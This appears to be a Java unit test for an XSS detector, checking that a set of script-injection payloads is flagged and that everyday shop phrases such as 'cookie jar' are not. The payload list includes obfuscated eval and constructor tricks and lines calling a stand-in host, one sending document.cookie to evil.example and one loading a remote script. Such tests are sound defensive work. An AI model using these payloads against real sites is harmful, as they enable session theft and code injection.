package dev.cordon.domain.detection.shape;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ScriptsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "';prompt(7);//",
                "\"-confirm`7`-\"",
                "prompt(document.domain)",
                "eval('pro'+'mpt(7)')",
                "settimeout(prompt,0)",
                "fetch('//evil.example/'+document.cookie)",
                "document.write('k')",
                "location.href='//evil.example'",
                "string.fromcharcode(107)",
                "window['prompt'](7)",
                "self[`prompt`](7)",
                "[7].map(prompt)",
                "[]['filter']['constructor']('k')()",
                "[][(![]+[])[+[]]]",
                "{onerror=prompt}throw 7 //onerror=alert",
                "$.getscript('//evil.example/k.js')"
            })
    void scriptThatCalls(String text) {
        assertThat(Scripts.isAttack(Texts.of(text))).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "alert bracelet",
                "medical alert (bracelet)",
                "print (framed)",
                "prompt delivery",
                "fetch (dog toy)",
                "confirm my order",
                "open house",
                "function & form",
                "import (eu) only",
                "name (engraved)",
                "cookie jar",
                "write-on board"
            })
    void wordsThatScriptsKnowToo(String text) {
        assertThat(Scripts.isAttack(Texts.of(text))).isFalse();
    }
}
